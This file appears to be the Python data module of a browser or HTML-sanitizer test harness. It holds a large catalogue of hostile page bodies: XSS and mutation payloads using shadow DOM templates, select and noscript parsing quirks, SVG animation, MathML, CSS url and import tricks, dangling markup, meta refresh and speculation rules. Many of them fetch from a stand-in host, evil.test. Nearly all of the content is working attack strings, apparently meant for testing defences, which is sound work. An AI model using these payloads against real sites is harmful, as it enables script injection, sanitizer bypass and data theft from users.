"""Hostile pages by what browsers learnt lately, and by corners of the standards: (name, kind, body); RUN, EVIL and ID are put in by vectors.py.

What may be loaded (pictures, sounds, fonts, style sheets) is asked of load.test; evil.test must never be asked."""

SHADOW = {  # declarative shadow trees, templates
    'open': '<div><template shadowrootmode=open><img src=x: onerror=RUN><slot></slot></template>x</div>',
    'closed': '<div><template shadowrootmode=closed><script>RUN</script></template>x</div>',
    'serializable': '<section><template shadowrootmode=open shadowrootserializable shadowrootclonable><iframe src=EVIL></iframe></template></section>',
    'delegates': '<p tabindex=0><template shadowrootmode=open shadowrootdelegatesfocus><input autofocus onfocus=RUN></template></p>',
    'old-name': '<div><template shadowroot=open><svg onload=RUN></template></div>',
    'nested': '<div><template shadowrootmode=open><div><template shadowrootmode=open><link rel=prefetch href=EVIL></template></div></template></div>',
    'in-table': '<table><tr><td><template shadowrootmode=open><style></template><img src=x: onerror=RUN></style></template></table>',
    'in-select': '<select><template shadowrootmode=open><option><script>RUN</script></template></select>',
    'in-svg': '<svg><template shadowrootmode=open><script>RUN</script></template></svg>',
    'in-math': '<math><mtext><template shadowrootmode=open><img src=x: onerror=RUN></template></mtext></math>',
    'body': '<body><template shadowrootmode=open><meta http-equiv=refresh content=0;url=EVIL></template></body>',
    'for': '<div id=m></div><template for=m><script>RUN</script></template>',
    'patch': '<?start name=a?><?end?><template for=a><img src=x: onerror=RUN></template>',
    'frameset': '<template><frameset><frame src=EVIL></template>',
    'unclosed': '<template><p><script>RUN</script>',
    'content': '<template><content><script>RUN</script></content></template>',
    'slot-name': '<div><template shadowrootmode=open><slot name=x onslotchange=RUN></slot></template><b slot=x>y</b></div>',
    'style': '<div><template shadowrootmode=open><style>@import "EVIL";:host{background:url(EVIL)}</style></template></div>',
}

SELECTS = {  # selects that may hold markup, and parsers that differ about them
    'button': '<select><button><img src=x: onerror=RUN></button><option>a</select>',
    'selectedcontent': '<select><button><selectedcontent><script>RUN</script></selectedcontent></button><option><img src=x: onerror=RUN></select>',
    'div': '<select><div><svg><style></select><img src=x: onerror=RUN></style></svg></div></select>',
    'input': '<select><input onfocus=RUN autofocus></select>',
    'textarea': '<select><textarea></select><script>RUN</script></textarea></select>',
    'keygen': '<select><keygen onfocus=RUN autofocus></select>',
    'nested': '<select><optgroup><select><script>RUN</script></select></optgroup></select>',
    'table': '<table><tr><td><select><tr><td><script>RUN</script></select></table>',
    'math': '<select><math><mtext><style></select><img src=x: onerror=RUN></style></mtext></math></select>',
    'iframe': '<select><option><iframe src=EVIL></iframe></option></select>',
    'hr': '<select><hr onclick=RUN><option>a</select><hr>',
    'legend': '<select><optgroup><legend><a href=javascript:RUN>x</a></legend><option>b</optgroup></select>',
    'noscript': '<select><noscript><p title="</select></noscript><img src=x: onerror=RUN>"></noscript></select>',
    'xmp': '<select><xmp></select><img src=x: onerror=RUN></xmp></select>',
    'plaintext': '<select><plaintext></select><script>RUN</script>',
    'comment': '<select><!--></select><img src=x: onerror=RUN>--></select>',
    'datalist': '<datalist><option><script>RUN</script></option><select><img src=x: onerror=RUN></select></datalist>',
    'selectlist': '<selectlist><listbox><img src=x: onerror=RUN></listbox></selectlist>',
}

RAW = {  # noscript, noframes and the like, one in the other
    'twice': '<noscript><noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript></noscript>',
    'head': '<head><noscript><style></noscript><img src=x: onerror=RUN></style></noscript></head>',
    'head-link': '<head><noscript><link rel=prefetch href=EVIL><meta http-equiv=refresh content=0;url=EVIL></noscript></head>',
    'in-svg': '<svg><noscript><style><p id="</style></noscript><img src=x: onerror=RUN>"></noscript></svg>',
    'in-math': '<math><noscript><mtext><style></noscript><img src=x: onerror=RUN></style></mtext></noscript></math>',
    'in-template': '<template><noscript><p title="</noscript></template><script>RUN</script>"></noscript></template>',
    'in-title': '<title><noscript></title><script>RUN</script></noscript></title>',
    'noembed': '<noscript><noembed></noscript><img src=x: onerror=RUN></noembed></noscript>',
    'noframes': '<noframes><noscript><!--</noframes><img src=x: onerror=RUN>--></noscript></noframes>',
    'attribute': '<noscript title="</noscript><script>RUN</script>">x</noscript>',
    'style-comment': '<style><!--/*</style><noscript>*/--></style><img src=x: onerror=RUN></noscript>',
    'script-comment': '<script><!--<script></script>RUN//--></script><script>RUN</script>',
    'script-twice': '<script><!--<script>RUN</script>--></script>x</script><img src=x: onerror=RUN>',
    'textarea-newline': '<textarea>\n\n</textarea\n><img src=x: onerror=RUN>',
    'title-slash': '<title></title/x=y><script>RUN</script>',
    'xmp-null': '<xmp></xm\x00p><script>RUN</script></xmp>',
    'noframes-body': '<frameset><noframes><body><img src=x: onerror=RUN></noframes></frameset>',
    'end-attributes': '<p></p onclick=RUN title="<img src=x: onerror=RUN>">x',
}

SVG = {
    'use-external': '<svg><use href="EVIL#x"/></svg>', 'use-xlink': '<svg><use xlink:href="EVIL.svg#x"/></svg>',
    'use-data': '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD14IHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyI+PHNjcmlwdD50b3AucHduKCk8L3NjcmlwdD48L3N2Zz4=#x"/></svg>',
    'use-blob': '<svg><use href="blob:null/x#y"/></svg>', 'use-self': '<svg id=a><use href="#a" onload=RUN /></svg>',
    'set-href': '<svg><a id=l><text y=9>x</text></a><set href=#l attributeName=href to=javascript:RUN begin=0s /></svg>',
    'set-handler': '<svg><set attributeName=onmouseover to=RUN /><rect width=99 height=99 /></svg>',
    'animate-from': '<svg><a><animate attributeName=xlink:href from=javascript:RUN to=javascript:RUN dur=1s fill=freeze /><text y=9>x</text></a></svg>',
    'animate-by': '<svg><image><animate attributeName=href by=EVIL dur=1s /></image></svg>',
    'animate-values': '<svg><use><animate attributeName=href values="#a;EVIL#x;#b" dur=1s repeatCount=indefinite /></use></svg>',
    'animate-events': '<svg><animate onbegin=RUN onend=RUN onrepeat=RUN attributeName=x dur=10ms repeatCount=3 /></svg>',
    'animate-motion': '<svg><rect><animateMotion onbegin=RUN path=M0,0 dur=1s /></rect></svg>',
    'animate-transform': '<svg><g><animateTransform onbegin=RUN attributeName=transform dur=1s /></g></svg>',
    'animate-style': '<svg><rect><animate attributeName=fill values="url(EVIL#x)" dur=1s /></rect></svg>',
    'set-src': '<svg><foreignObject><iframe id=f></iframe></foreignObject><set href=#f attributeName=src to=EVIL /></svg>',
    'discard': '<svg><discard href=#x begin=0s onbegin=RUN /><g id=x /></svg>', 'script-type': '<svg><script type=text/ecmascript href=data:,RUN /></svg>',
    'script-cdata': '<svg><script><![CDATA[RUN]]></script></svg>', 'script-entity': '<svg><script>&#116;op.pwn(1)</script></svg>',
    'a-target': '<svg><a href=http://load.test/ target=_top ping=EVIL rel=opener><text y=9>x</text></a></svg>',
    'title-html': '<svg><title><a href=javascript:RUN>x</a></title></svg>', 'desc-form': '<svg><desc><form action=EVIL><button>x</button></form></desc></svg>',
    'metadata': '<svg><metadata><iframe src=EVIL></iframe></metadata></svg>', 'mask': '<svg><mask id=m><script>RUN</script></mask><rect mask=url(http://load.test/ID.svg#m) /></svg>',
    'fill-url': '<svg><rect fill="url(javascript:RUN)" filter="url(javascript:RUN)" clip-path="url(&quot;javascript:RUN&quot;)"/></svg>',
    'feimage-data': '<svg><filter id=f><feImage href="data:text/html,<script>RUN</script>"/></filter><rect filter=url(#f) width=9 height=9 /></svg>',
    'fecomposite': '<svg><filter><feImage xlink:href="EVIL#x"/></filter></svg>', 'iframe-in': '<svg><iframe srcdoc="<script>RUN</script>"></iframe></svg>',
    'audio-in': '<svg><audio src=x: onerror=RUN></audio><video src=x: onerror=RUN></video><canvas onclick=RUN></canvas></svg>',
    'case': '<SVG><ForeignObject><ScRiPt>RUN</sCrIpT></FOREIGNOBJECT></SVG>', 'listener': '<svg><listener event=load handler=#h /><handler id=h>RUN</handler></svg>',
    'font-face': '<svg><font-face><font-face-src><font-face-uri xlink:href=EVIL /></font-face-src></font-face></svg>',
    'glyph': '<svg><font><glyph><script>RUN</script></glyph></font></svg>', 'switch': '<svg><switch><foreignObject requiredExtensions=x><img src=x: onerror=RUN></foreignObject></switch></svg>',
    'solid': '<svg><solidcolor onload=RUN /><hatch href=EVIL /><mesh href=EVIL /></svg>', 'base': '<svg xml:base=EVIL/><a href=x xml:base=javascript:RUN//><text y=9>x</text></a></svg>',
}

MATH = {
    'href': '<math href=javascript:RUN><mi>x</mi></math>', 'mi-href': '<math><mi href=javascript:RUN>x</mi></math>', 'xlink': '<math xlink:href=javascript:RUN xlink:show=replace><mn>1</mn></math>',
    'maction': '<math><maction actiontype=toggle selection=1 onclick=RUN><mi>x</mi><mi>y</mi></maction></math>', 'statusline': '<math><maction actiontype=statusline><mi>x</mi><mtext><img src=x: onerror=RUN></mtext></maction></math>',
    'annotation-svg': '<math><annotation-xml encoding=image/svg+xml><svg><script>RUN</script></svg></annotation-xml></math>',
    'annotation-case': '<math><annotation-xml encoding="TEXT/html"><style></annotation-xml></math><img src=x: onerror=RUN></style></annotation-xml></math>',
    'annotation-src': '<math><semantics><mi>x</mi><annotation src=EVIL encoding=x>y</annotation></semantics></math>', 'annotation-text': '<math><annotation encoding="text/html"><img src=x: onerror=RUN></annotation></math>',
    'mglyph': '<math><mi><mglyph src=EVIL alt=x></mglyph></mi></math>', 'mglyph-p': '<math><mtext><p><mglyph><style></p></math><img src=x: onerror=RUN></style></mtext></math>',
    'ms': '<math><ms><script>RUN</script></ms></math>', 'mtd': '<math><mtable><mtr><mtd><table><mtd><style></math><img src=x: onerror=RUN>', 'script': '<math><script>RUN</script></math>',
    'style': '<math><style>*{background:url(javascript:RUN)}</style></math>', 'handler': '<math onclick=RUN tabindex=0 autofocus onfocus=RUN><mi>x</mi></math>', 'definition': '<math><csymbol definitionURL=javascript:RUN>x</csymbol></math>',
    'mpadded': '<math><mpadded style="behavior:url(EVIL)"><mi>x</mi></mpadded></math>',
}

CSS = ['@import url(data:text/css,a%7Bb:url(EVIL)%7D);', '@import "data:text/css;base64,QGltcG9ydCAiRVZJTCI=";', "@import 'javascript:RUN' layer(x) supports(display:grid);", '@import src("javascript:RUN");',
       '@namespace url(javascript:RUN);', '@namespace x "EVIL"; x|a{}', 'a{background:image-set("javascript:RUN" 1x, url(javascript:RUN) 2x)}', 'a{background:-webkit-image-set(url(javascript:RUN) 1x)}',
       'a{background:cross-fade(url(javascript:RUN),url(javascript:RUN),50%)}', 'a{background:src("javascript:RUN")}', 'a{background:paint(x, RUN)}', 'a{background:element(#RUN)}', 'a{content:attr(title url)}',
       'a{background:url(attr(title))}', 'a{background:attr(href type(<url>))}', 'a{x:env(RUN,"</style><script>RUN</script>")}', '@font-face{font-family:x;src:url(javascript:RUN)}', '@font-face{font-family:x;src:local("</style><img src=x: onerror=RUN>")}',
       '@property --x{syntax:"<url>";inherits:true;initial-value:url(javascript:RUN)}', '@container style(--x:"</style><script>RUN</script>"){a{b:c}}', '@scope (</style><script>RUN</script>){}', '@layer a,b;@layer a{</style><script>RUN</script>}',
       '@function --f(){result:url(javascript:RUN)}', '@document url(EVIL){a{b:c}}', '@-moz-document url-prefix(EVIL){a{b:c}}', '@view-transition{navigation:auto}', 'a{cursor:url(javascript:RUN),auto}', 'a{offset-path:url(javascript:RUN)}',
       'a{shape-outside:url("javascript:RUN")}', 'a{mask:url(data:text/html,<script>RUN</script>)}', 'a{-o-link:"javascript:RUN";-o-link-source:current}', 'a{background:\\75\\72\\6c(javascript:RUN)}',
       'a{background:url(\\6a avascript:RUN)}', "a{b:'\\\n</style><script>RUN</script>'}", 'a{b:c}\x00</style><script>RUN</script>', '<!-- a{b:c} --></style><script>RUN</script><!--', '@charset "utf-7";+ADw-/style+AD4-+ADw-script+AD4-RUN+ADw-/script+AD4-',
       'a{b:url(x\\', 'a{b:"\\', '@media print{@import "EVIL"}']

ATTRIBUTES = {
    'ping': '<a href=http://load.test/ ping="EVIL EVIL2">x</a><area href=http://load.test/ ping=EVIL>', 'formaction': '<form><input type=submit formaction=EVIL><input type=image formaction=javascript:RUN src=http://load.test/i></form>',
    'form-owner': '<form id=f action=EVIL></form><input form=f onfocus=RUN><button form=f formaction=javascript:RUN formtarget=_top>x</button>', 'form-clobber': '<form id=f><input name=action><input name=submit><input form=f name=attributes></form>',
    'poster': '<video poster=javascript:RUN></video>', 'background': '<table background=javascript:RUN><td background=javascript:RUN>x</table>', 'lowsrc': '<img lowsrc=EVIL dynsrc=EVIL src=http://load.test/i>',
    'srcset-data': '<img srcset="data:text/html,<script>RUN</script> 1x, javascript:RUN 2x, http://load.test/i 3x">', 'srcset-comma': '<img srcset="http://load.test/a,javascript:RUN,b 1x">', 'imagesizes': '<link rel=preload as=image imagesizes=1px imagesrcset="EVIL 1x">',
    'archive': '<object archive=EVIL codebase=EVIL classid=EVIL data=EVIL usemap=#x></object>', 'usemap': '<img usemap="javascript:RUN"><map name=x><area href="javascript:RUN" shape=default></map>', 'icon': '<menuitem icon=EVIL onclick=RUN label=x></menuitem>',
    'manifest': '<html manifest=EVIL>', 'profile': '<head profile=EVIL>', 'itemid': '<div itemscope itemid=javascript:RUN itemtype=EVIL>x</div>', 'cite': '<q cite=javascript:RUN>x</q><ins cite=EVIL datetime=x>y</ins>', 'datasrc': '<span datasrc=EVIL datafld=x dataformatas=html>x</span>',
    'data-bind': '<div data-bind="RUN" ng-app v-html="RUN" x-data x-init="RUN" hx-get=EVIL hx-trigger=load>{{constructor.constructor("RUN")()}}</div>', 'part': '<div part=x exportparts=x slot=y is=z-z nonce=n>x</div>', 'elementtiming': '<img elementtiming=x fetchpriority=high attributionsrc="EVIL" src=http://load.test/i>',
    'browsingtopics': '<iframe browsingtopics src=EVIL></iframe><img sharedstoragewritable src=http://load.test/i>', 'privatetoken': '<iframe privatetoken=\'{"version":1}\' adauctionheaders src=EVIL></iframe>', 'csp': '<iframe csp="script-src *" src=EVIL></iframe>',
    'credentialless': '<iframe credentialless srcdoc="&lt;script>RUN&lt;/script>"></iframe>', 'srcdoc-nested': '<iframe srcdoc="&lt;iframe srcdoc=&amp;quot;&amp;lt;script>RUN&amp;lt;/script>&amp;quot;>"></iframe>', 'sandbox': '<iframe sandbox="allow-scripts allow-top-navigation" src=EVIL></iframe>',
    'allow': '<iframe allow="camera *" allowfullscreen src=EVIL></iframe>', 'policy': '<iframe policy=x referrerpolicy=unsafe-url loading=eager src=EVIL></iframe>', 'referrer': '<a href=http://load.test/ referrerpolicy=unsafe-url download=x.html>x</a>', 'hreftranslate': '<a href=http://load.test/ hreftranslate=x target="x<\n">y</a>',
    'event-name': '<p onwebkitanimationstart=RUN ontransitionrun=RUN onscrollsnapchange=RUN oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>', 'onbeforetoggle': '<div popover id=p onbeforetoggle=RUN ontoggle=RUN>x</div><button popovertarget=p popovertargetaction=show autofocus>y</button>',
    'onfocus': '<a id=x tabindex=1 onfocus=RUN onfocusin=RUN autofocus href=#x>y</a>', 'contenteditable': '<div contenteditable autofocus onbeforeinput=RUN onfocus=RUN>x</div>', 'oncommand': '<dialog id=d open oncommand=RUN oncancel=RUN onclose=RUN>x</dialog><button commandfor=d command=close>y</button>',
    'interest': '<a href=http://load.test/ interestfor=t oninterest=RUN>x</a><div id=t popover=hint oninterest=RUN>y</div>', 'details-name': '<details name=x open ontoggle=RUN>x</details><details name=x open ontoggle=RUN>y</details>', 'onsecurity': '<img src=http://load.test/i onload=RUN onerror=RUN onsecuritypolicyviolation=RUN>',
    'no-space': '<img src="x:"onerror="RUN"><img src=\'x:\'onerror=\'RUN\'>', 'slashes': '<img////src=x:////onerror=RUN//>', 'equals': '<img src=x: =onerror=RUN onerror==RUN>', 'quote-in-name': '<img src=x: a"onerror=RUN x\'onerror=RUN>', 'newline': '<img\nsrc=x:\n\tonerror\n=\nRUN>', 'formfeed': '<img\x0csrc=x:\x0conerror=RUN>',
    'upper-on': '<IMG SRC=x: OnErRoR=RUN>', 'twice': '<img title=a title="b" onerror=x onerror=RUN src=x: src=EVIL>',
    'dangling-img': '<img src="EVIL?', 'dangling-quote': "<a href='EVIL?", 'dangling-target': '<base target="', 'dangling-textarea': '<form action=EVIL><textarea name=x>', 'dangling-option': '<form action=EVIL><button>go</button><select><option>', 'dangling-meta': '<meta http-equiv=refresh content="0;url=EVIL?',
}

HEADS = {
    'speculation-document': '<script type=speculationrules>{"prerender":[{"urls":["EVIL"],"eagerness":"immediate"}]}</script>',
    'speculation-src': '<script type=speculationrules src=EVIL></script>', 'modulepreload': '<link rel=modulepreload href=EVIL as=worker>', 'expect': '<link rel=expect href=#never blocking=render>', 'compression': '<link rel=compression-dictionary href=EVIL>',
    'payment': '<link rel=payment-method-manifest href=EVIL><link rel=monetization href=EVIL onmonetization=RUN>', 'alternate-sheet': '<link rel="alternate stylesheet" href=EVIL title=x>', 'import': '<link rel=import href=EVIL>', 'pingback': '<link rel="pingback preconnect" href=EVIL>',
    'sheet-onload': '<link rel=stylesheet href=http://load.test/c onload=RUN onerror=RUN>', 'sheet-script': '<link rel=stylesheet href="javascript:RUN">', 'sheet-data': '<link rel=stylesheet href="data:text/css,@import%20url(EVIL)">', 'sheet-disabled': '<link rel=stylesheet disabled href=data:text/css,a blocking=render>',
    'apple': '<link rel="apple-touch-icon mask-icon" href=EVIL>', 'next': '<link rel="next prev" href=EVIL>', 'refresh-upper': '<META HTTP-EQUIV=REFRESH CONTENT="0; URL=\'EVIL\'">', 'refresh-script': '<meta http-equiv=refresh content="0;javascript:RUN">', 'refresh-data': '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
    'referrer': '<meta name=referrer content=unsafe-url>', 'scheme': '<meta name=color-scheme content=dark><meta name=viewport content="width=1,initial-scale=9">', 'charset-late': '<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-', 'charset-iso': '<meta charset=iso-2022-jp>\x1b$B<script>RUN</script>\x1b(B', 'permissions': '<meta http-equiv=permissions-policy content="camera=*"><meta http-equiv=origin-trial content=x>',
    'delegate': '<meta http-equiv=delegate-ch content="sec-ch-ua EVIL"><meta http-equiv=accept-ch content=dpr>', 'csp-open': '<meta http-equiv=content-security-policy content="default-src * \'unsafe-inline\'"><script>RUN</script>', 'default-style': '<meta http-equiv=default-style content=x><style title=x>a{b:url(javascript:RUN)}</style>',
    'import-map': '<script type=importmap>{"imports":{"a":"EVIL"}}</script><script type=module>import "a"; RUN</script>', 'webbundle': '<script type=webbundle>{"source":"EVIL","resources":["EVIL"]}</script>', 'async': '<script async defer crossorigin integrity=x src=EVIL></script>', 'module': '<script type=module src=EVIL blocking=render></script>',
    'base-late': '<base href="javascript:RUN//"><base href=data:text/html,><a href=x>y</a>', 'title-svg': '<svg><title>x</title></svg><title><img src=x: onerror=RUN></title>',
}

ELEMENTS = {name: f'<{name} src=EVIL href=EVIL data=EVIL type=camera autostart autolocate onclick=RUN onload=RUN>x</{name}>' for name in (
    'portal fencedframe webview controlledframe permission geolocation camera microphone usermedia install login credential model menubar menulist menuitem selectlist selectmenu listbox layer nolayer ilayer bgsound '
    'isindex nextid comment xml applet content shadow element command device eventsource dialogue popup my-frame x:script o:p svg:script html:iframe').split()}

INSTRUCTIONS = ['<?xml-stylesheet href="EVIL" type="text/css"?>', '<?xml-stylesheet href="EVIL" type="text/xsl"?>', '<?xml-stylesheet href="#x" type="text/xsl"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0"><xsl:template match="/"><script>RUN</script></xsl:template></xsl:stylesheet>',
                '<?php RUN ?><?import namespace="x" implementation="EVIL"?>', '<a xlink:type="simple" xlink:href="javascript:RUN" xlink:actuate="onLoad" xlink:show="replace">x</a>', '<s:a xlink:href="javascript:RUN"><s:text y="9">x</s:text></s:a>',
                '<x:link xlink:type="simple" xlink:href="EVIL" xlink:actuate="onLoad" xlink:show="embed"/>', '<s:script xlink:href="EVIL"/>', '<s:use xlink:href="EVIL#x"/>', '<h:script src="EVIL"/>', '<h:link rel="stylesheet" href="javascript:RUN"/>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
                '<script xmlns="http://www.w3.org/2000/svg">RUN</script>', '<y:y xmlns:y="http://www.w3.org/1999/xhtml" onclick="RUN" autofocus="" onfocus="RUN" tabindex="0">z</y:y>', '<p xml:base="javascript:RUN//"><a href="x">y</a></p>', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="EVIL" parse="xml"/>',
                '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><script id="h">RUN</script>', '<Img Src="x:" OnError="RUN"/>', '<IMAGE src="x:" onerror="RUN"/>', '<Portal src="EVIL">x</Portal><FencedFrame src="EVIL"/>', '<![CDATA[<script>RUN</script>]]>', '<p title="&lt;script&gt;RUN&lt;/script&gt;">&#60;script&#62;RUN&#60;/script&#62;</p>',
                '<p>&lt;!--</p><img alt="--&gt;&lt;script&gt;RUN&lt;/script&gt;"/>', '<my.card is="x-y" onclick="RUN">z</my.card>']

ENTITIES = ['&lt;script&gt;RUN&lt;/script&gt;', '<a href="jav&#x61;script&colon;RUN">x</a>', '<a href="&#1;javascript:RUN">x</a>', '<a href="java&Tab;script:RUN">x</a>', '<a href="&#0000106avascript:RUN">x</a>', '<p title="&quot; onclick=RUN x=&quot;">x</p>', '<p title=`&#96;onclick=RUN`>x</p>',
            '<a href="data:text/html;charset=utf-7,+ADw-script+AD4-RUN">x</a>', '<a href="blob:null/ID">x</a>', '<iframe src="data:text/html,<iframe src=data:text/html,<script>RUN</script>></iframe>"></iframe>', '<a href="filesystem:EVIL">x</a>', '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27RUN%27/>">',
            '<object type=text/html data="data:image/svg+xml,<svg onload=RUN>"></object>', '<a href="\\\\evil.test\\ID" ping=\\\\evil.test\\ID>x</a>', '<img src="file://evil.test/ID">', '<img src="file:////evil.test/ID">', '<a href="javascript&#x3A;RUN" target="&#x5F;top">x</a>', '<p>&#xD800;&#x110000;&#0;<img src=x: onerror=RUN></p>']


def _family(name, bodies):
    items = bodies.items() if isinstance(bodies, dict) else enumerate(bodies)
    return [(f'{name}-{key}', 'html', body) for key, body in items]


def bodies():
    """(name, kind, body of a page)"""
    found = []
    for name, family in (('shadow', SHADOW), ('select-new', SELECTS), ('raw', RAW), ('svg-new', SVG), ('math', MATH), ('attribute', ATTRIBUTES), ('head', HEADS), ('element', ELEMENTS), ('entity', ENTITIES)):
        found += _family(name, family)
    for k, css in enumerate(CSS):
        found.append((f'css-{k}', 'html', f'<style>{css}</style>'))
        if not css.startswith('@'):
            found.append((f'css-attribute-{k}', 'html', '<p style="{}">x</p>'.format(css[2:].rstrip('}').replace('&', '&amp;').replace('"', '&quot;'))))
    found += [(f'xml-{k}', 'xhtml', body) for k, body in enumerate(INSTRUCTIONS)]
    return found
